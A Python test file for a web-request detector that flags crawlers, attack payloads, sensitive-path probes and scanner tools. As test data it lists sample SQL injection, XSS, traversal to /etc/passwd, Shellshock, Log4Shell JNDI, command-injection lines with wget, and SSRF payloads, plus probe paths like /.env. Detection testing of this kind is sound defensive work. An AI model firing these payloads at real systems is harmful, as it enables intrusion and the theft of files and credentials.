"""The signals about requests, one small request each."""

from urllib.parse import quote

import pytest
from msgspec import convert

from bylaw.events.vocabulary import RequestServed
from bylaw.signals.signal import SignalValue
from bylaw.signals.traffic.table import SIGNALS

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36 Edg/126.0",
    (
        "Mozilla/5.0 (Linux; Android 14; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
        "Chrome/121.0.0.0 Mobile Safari/537.36"
    ),
    "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
        "[LinkedInApp]/9.29"
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
        "[FBAN/FBIOS;FBAV/467.0;FBBV/602;FBDV/iPhone15,2;FBSN/iOS;FBLC/en_US]"
    ),
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36 OPR/111.0",
    "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.16",
    "MyShop/4.2 (com.example.shop; build:12; iOS 17.5.1) Alamofire/5.9.1",
)
_PROGRAMS = (
    "",
    "-",
    "curl/8.5.0",
    "python-requests/2.32.0",
    "Go-http-client/2.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Example; contact@example.com)",
    "Mozilla/5.0 (compatible; SomethingUnheardOf/1.0)",
)
_ATTACKS = {
    "sqli": (
        "1' or '1'='1",
        "-1 union select 1,2 --",
        "1;waitfor delay '0:0:5'",
        "1/**/union/*!50000select*/1",
        "1 and 1=2",
    ),
    "xss": (
        "<script>a()</script>",
        '"><img src=x onerror=alert(1)>',
        "java\tscript:alert(1)",
        "&lt;svg/onload=a(1)&gt;",
    ),
    "traversal": ("../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd"),
    "rfi": ("http://203.0.113.7/x.txt?", "gopher://example.com/", "http://169.254.169.254/latest"),
    "command": ("; wget http://example.com/a", "$(id)", "| cat /etc/hosts", "() { :; }; echo"),
    "php": ("<?php echo 1;", "php://filter/x", "phpinfo()", 'O:8:"stdClass":0:{}'),
    "java": ("${jndi:ldap://example.com/a}", "%{#context['x']}", "rO0ABXNyAA"),
    "template": ("{{7*7}}", "{% if x %}", "__proto__[a]", "<%= 7*7 %>"),
    "protocol": ("a\r\nSet-Cookie: b=c", "a\0b"),
}
_HARMLESS = (
    "red & blue shoes, size 38", "it's 5 o'clock; call me & let me know", "rock and roll: the best of 1970-1980",
    "drop table lamp", "how to select a color from the list", "C++ vs C# (2024 edition) -- review", "5'10\" tall or 6'2\" tall",
    "50% off! 2 for $20 + free shipping", "'quoted phrase' and 'another phrase'", "<3 love you <b>bold</b>", "O'Brien & O'Neil's",
    "java.lang.NullPointerException at Foo.bar(Foo.java:42)", "https://example.com/watch?v=abc&t=10s", '{"a": 1, "b": [1, 2]}',
    "let's go; cat pictures | ping pong", "Straße für Bücher — naïve café", "{{name}}, welcome", "size <10 or >20", "R&D; S&P 500",
)  # fmt: skip


def _values(**fields: str) -> dict[str, SignalValue]:
    event = convert(
        {"kind": "request.served", "id": "1", "at": "2026-03-01T00:00:00Z", **fields}, RequestServed
    )
    return {signal.member: signal.compute(event, {}) for signal in SIGNALS}


def _attack(**fields: str) -> SignalValue:
    return _values(**fields)["attack"]


def test_a_request_of_which_nothing_is_known() -> None:
    assert _values() == {"crawler": True, "attack": [], "sensitive_path": False, "tool": ""}


@pytest.mark.parametrize("agent", _BROWSERS)
def test_browsers_and_apps_are_no_crawlers(agent: str) -> None:
    assert _values(user_agent=agent) == {"crawler": False, "attack": [], "sensitive_path": False, "tool": ""}


@pytest.mark.parametrize("agent", _PROGRAMS)
def test_programs_are_crawlers(agent: str) -> None:
    assert _values(user_agent=agent)["crawler"] is True


@pytest.mark.parametrize(
    ("family", "payload"), [(f, p) for f, payloads in _ATTACKS.items() for p in payloads]
)
def test_an_attack_is_met_however_it_is_escaped(family: str, payload: str) -> None:
    once = quote(payload, safe="")
    for value in (once, quote(once, safe=""), once.replace("%20", "+")):
        assert family in _values(path="/search", query=f"a=1&q={value}&b=2")["attack"], value  # type: ignore[operator]


@pytest.mark.parametrize("text", _HARMLESS)
def test_what_people_search_for_is_no_attack(text: str) -> None:
    for value in (quote(text, safe=""), quote(text, safe="").replace("%20", "+")):
        assert _attack(path="/search", query=f"q={value}&page=2") == []


def test_attacks_hide_in_headers_and_in_what_is_no_http() -> None:
    assert _attack(user_agent="() { :; }; /bin/cat /etc/passwd") == ["command", "traversal"]
    assert _attack(referrer="https://example.com/${jndi:dns://example.org}") == ["java"]
    assert _attack(request="\x16\x03\x01\x02\x00") == ["protocol"]


def test_parameters_are_not_operators() -> None:
    assert _attack(path="/", query="a=1&&b=2&or=3&and=4&select=5") == []


@pytest.mark.parametrize(
    "value", ["%c0%ae%c0%ae/%c0%ae%c0%ae/x", "%u002e%u002e/%u002e%u002e/x", "%252e%252e%252f..%5cx"]
)
def test_odd_escapes_of_a_path(value: str) -> None:
    assert _attack(path=f"/a/{value}") == ["traversal"]


@pytest.mark.parametrize("path", ["/.env", "/.git/config", "/blog/xmlrpc.php", "/phpMyAdmin/", "/backup.zip", "/%2eenv",
                                  "/server-status", "/actuator/health", "/site.sql.gz", "/config.php.bak"])  # fmt: skip
def test_probes(path: str) -> None:
    assert _values(path=path)["sensitive_path"] is True


@pytest.mark.parametrize(
    "path", ["/", "/environment", "/blog/git-config", "/backup-your-data.html", "/admin/users", "/a.zip"]
)
def test_ordinary_paths(path: str) -> None:
    assert _values(path=path)["sensitive_path"] is False


@pytest.mark.parametrize(("agent", "tool"), [
    ("sqlmap/1.7#stable (https://sqlmap.org)", "sqlmap"), ("Mozilla/5.00 (Nikto/2.1.5)", "nikto"),
    ("Fuzz Faster U Fool v2.1", "ffuf"), ("curl/8.5.0", ""), ("Mozilla/5.0 (X11) Firefox/1.0 unmapped", ""),
])  # fmt: skip
def test_tools(agent: str, tool: str) -> None:
    assert _values(user_agent=agent)["tool"] == tool
